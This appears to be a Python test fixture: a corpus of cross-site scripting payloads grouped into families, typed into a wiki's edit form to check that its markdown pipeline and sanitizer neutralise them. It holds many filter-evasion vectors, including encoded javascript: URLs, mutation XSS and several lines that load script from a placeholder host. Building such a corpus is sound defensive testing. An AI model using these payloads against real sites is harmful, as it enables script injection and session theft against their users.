"""The XSS corpus: what a hostile or careless moderator might type.

Body vectors are grouped in families (one wiki page each in the tests);
every family is a list of strings typed into the edit form's body. The
metadata lists are typed into the other fields of the same form. Sources:
the classic filter-evasion lists (OWASP's XSS Filter Evasion Cheat Sheet,
html5sec.org) rewritten for this site's pipeline (markdown, wiki links,
attribute lists, then the sanitizer).
"""

CLASSIC_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script src=/static/js/vote.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<script/xss src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<script type=text/javascript>alert(1)</script>",
    "<script type=module>alert(1)</script>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code="x" codebase="javascript:alert(1)"></applet>',
    "<style>body{display:none}</style>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<link rel="import" href="//evil.example/x.html">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="set-cookie" content="x=1">',
    '<base href="javascript:alert(1)//">',
    "<base href=//evil.example/>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>',
    '<input type="image" src="javascript:alert(1)">',
    "<isindex action=javascript:alert(1) type=image>",
    "<xss>alert(1)</xss>",
    "<template><script>alert(1)</script></template>",
    "<portal src=//evil.example></portal>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "<noscript><script>alert(1)</script></noscript>",
]

EVENT_ATTRIBUTES = [
    '<img src="/x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=/x ONERROR=alert(1)>",
    '<img src="/static/img/favicon.svg" onload="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<a href="/wiki/x/" onfocus=alert(1) autofocus>x</a>',
    '<a href="/x" onmouseover="alert(1)">hover</a>',
    '<p onclick="alert(1)">click</p>',
    '<div onpointerenter="alert(1)">x</div>',
    '<span onanimationstart="alert(1)">x</span>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<td onmouseover=alert(1)>cell</td>",
    '<h2 onclick="alert(1)">heading</h2>',
    '<abbr title="x" onclick="alert(1)">x</abbr>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="color:red">x</div>',
    '<p style="x:expression(alert(1))">x</p>',
    "<p/onclick=alert(1)>x</p>",
    '<p onclick\n="alert(1)">x</p>',
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<div id="x" tabindex=1 onfocusin=alert(1)>x</div>',
]

ENCODED_URLS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#X6a;avascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<p><a href="java\nscript:alert(1)">x</a></p>',
    '<div>\n<a href="\x01 javascript:alert(1)">x</a>\n</div>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="javascript&#x3a;alert(1)">x</a>',
    '<a href="&Tab;javascript:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data&colon;text/html,x">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="/x" srcset="javascript:alert(1) 1x">',
    '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">x</a>',
    '<a href="\\u006Aavascript:alert(1)">x</a>',
    '<a href="javascript://%0Aalert(1)">x</a>',
    '<a href="jav\x00ascript:alert(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<q cite="javascript:alert(1)">x</q>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
]

SVG_AND_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style>@import url(//evil.example)</style></svg>",
    '<svg><image href="javascript:alert(1)"/></svg>',
    "<svg/onload=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)>'
    "</annotation-xml></math>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
]

MARKDOWN_LINKS = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java%0Ascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[x](https://ok.example/ "title" onmouseover=alert(1))',
    '[x](https://ok.example/ "a\\" onmouseover=\\"alert(1))',
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[<img src=x onerror=alert(1)>](https://ok.example/)",
    "[x](javascript:alert`1`)",
    "[x](\\javascript:alert(1))",
    "[x](//evil.example/)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x" onerror="alert(1)](/x)',
    '![x](/x "t" onerror=alert(1))',
    '![x](/x" onerror="alert(1))',
    "<javascript:alert(1)>",
    "<JavaScript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<mailto:x@example.org?body=<script>alert(1)</script>>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    '[ref]\n\n[ref]: javascript:alert(1) "title"',
    "[text][ref]\n\n[ref]: &#106;avascript:alert(1)",
    "![pic][img]\n\n[img]: javascript:alert(1)",
    "[ref]\n\n[ref]: <javascript:alert(1)>",
    '[ref]\n\n[ref]: /ok "a" onmouseover="alert(1)"',
    "Fact[^1].\n\n[^1]: <img src=x onerror=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "> <img src=x onerror=alert(1)>",
]

WIKI_LINKS = [
    "[[Interleukin-2|<img src=x onerror=alert(1)>]]",
    '[[Interleukin-2|" onmouseover="alert(1)]]',
    "[[Interleukin-2|' onmouseover='alert(1)]]",
    "[[Interleukin-2|<script>alert(1)</script>]]",
    "[[Interleukin-2|[x](javascript:alert(1))]]",
    "[[javascript:alert(1)]]",
    "[[javascript:alert(1)|click]]",
    "[[ javascript:alert(1) ]]",
    '[[" onmouseover="alert(1)]]',
    "[[' onfocus='alert(1)' autofocus='x]]",
    '[[#" onmouseover="alert(1)]]',
    "[[#<script>alert(1)</script>]]",
    '[[Interleukin-2#" onclick="alert(1)|x]]',
    "[[Interleukin-2#<img src=x onerror=alert(1)>]]",
    "[[&quot; onmouseover=&quot;alert(1)]]",
    "[[Bad<script>alert(1)</script>]]",
    "[[Interleukin-2|<a href=javascript:alert(1)>x</a>]]",
    "[[Interleukin-2|**<i onclick=alert(1)>x</i>**]]",
    "#REDIRECT [[javascript:alert(1)]]",
]

ATTRIBUTE_LISTS = [
    "## Title {onclick=alert(1)}",
    '## Title {: onclick="alert(1)" }',
    '## Title {: style="color:red" }',
    "Paragraph\n{: onmouseover=alert(1) }",
    '[x](/ok){: onclick="alert(1)"}',
    '![x](/x){: onerror="alert(1)"}',
    '## Title {: href="javascript:alert(1)" }',
    '## Title {: #x .y onfocus="alert(1)" tabindex=1 }',
    "* item {: onclick=alert(1) }",
]

COMMENTS_AND_CDATA = [
    "<!--<script>alert(1)</script>-->",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY e '<script>alert(1)</script>'>]>&e;",
    "<p title='<!--'>x</p><img src=x onerror=alert(1)>-->",
]

MUTATION = [
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mi><table><mglyph><svg><mtext><textarea>"
    '<a title="</textarea><img src onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<table><td><a title="</td><img src=x onerror=alert(1)>">x</a></td></table>',
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    '<a href="/x"><a href="javascript:alert(1)">x</a></a>',
    "<p><details open><summary><img src=x onerror=alert(1)></summary></details></p>",
    "<div><p>x<ul><li><img src=x onerror=alert(1)></li></ul>",
    '<a href="/x" title="&lt;img src=x onerror=alert(1)&gt;">x</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x onerror=\x00alert(1)>",
    "<a\x0chref=javascript:alert(1)>x</a>",
]

# URLs a browser takes to another host although they do not start with
# "http": network-path references (//host), a backslash read as a slash
# (/\host, \\host), and leading spaces, tabs, newlines or control characters
# that the browser drops. Pictures from them must be refused like any other
# picture from elsewhere, and links to them marked like other outside links.
OTHER_SITE_URLS = [
    "![x](/\\evil.example/t.png)",
    "![x](//evil.example/t.png)",
    "![x](<\\\\evil.example/t.png>)",
    '<img src="/\\evil.example/t.png">',
    '<img src="\\\\evil.example/t.png">',
    '<img src=" //evil.example/t.png">',
    '<img src="/&#9;/evil.example/t.png">',
    '<img src="&#10;/\\evil.example/t.png">',
    '<img src=" https://evil.example/t.png">',
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](HTTPS://evil.example/)",
    "[x](http:evil.example/)",
    '<a href="/\\evil.example/">x</a>',
    '<a href="\\\\evil.example/">x</a>',
    '<a href="\\/evil.example/">x</a>',
    '<a href=" https://evil.example/">x</a>',
    '<a href="&#9;https://evil.example/">x</a>',
    '<a href="&#10;//evil.example/">x</a>',
    '<a href="/&#9;/evil.example/">x</a>',
    '<a href="&#1;https://evil.example/">x</a>',
    '<a href=" /\\evil.example/">x</a>',
]

BODY_FAMILIES = {
    "tags": CLASSIC_TAGS,
    "events": EVENT_ATTRIBUTES,
    "urls": ENCODED_URLS,
    "svg": SVG_AND_MATHML,
    "markdown": MARKDOWN_LINKS,
    "wikilinks": WIKI_LINKS,
    "attributes": ATTRIBUTE_LISTS,
    "comments": COMMENTS_AND_CDATA,
    "mutation": MUTATION,
    "other-sites": OTHER_SITE_URLS,
}

# Valid titles (no / # ? [ ] { } | < >) that are still markup or a script
# URL when pasted unescaped into an attribute or as a link target.
TITLE_VECTORS = [
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)",
    "VBScript:msgbox(1)",
    "data:text html,x",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&quot; onclick=&quot;alert(1)",
    'x" style="color:red',
    'Quote\'s "Page" & more',
    "`onmouseover=alert(1)`",
]

# Edit summaries beyond the body vectors (each body vector is also saved as
# its revision's summary).
SUMMARY_VECTORS = [
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</td><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<![CDATA[</summary><script>alert(1)</script>]]>",
    "javascript:alert(1)",
]

# Cross-link labels beyond the body vectors (which are also labels).
LABEL_VECTORS = [
    '" onmouseover="alert(1)',
    "</a><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
]

SOURCE_NAME_VECTORS = [
    "<script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "</a><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
]

# Source addresses the form accepts (they are web addresses) but that carry
# markup: the page must show them escaped.
SOURCE_URL_VECTORS = [
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'><script>alert(1)</script>",
    "https://example.org/?q=<img/src=x/onerror=alert(1)>",
    "https://example.org/#javascript:alert(1)",
]

# Source addresses the form must refuse: they are not web addresses.
REFUSED_SOURCE_URLS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "javascript://example.org/%0Aalert(1)",
]


def all_vectors() -> list[str]:
    """Every string of the corpus, body families first."""
    vectors = [vector for family in BODY_FAMILIES.values() for vector in family]
    for extra in (
        TITLE_VECTORS,
        SUMMARY_VECTORS,
        LABEL_VECTORS,
        SOURCE_NAME_VECTORS,
        SOURCE_URL_VECTORS,
        REFUSED_SOURCE_URLS,
    ):
        vectors += extra
    return vectors
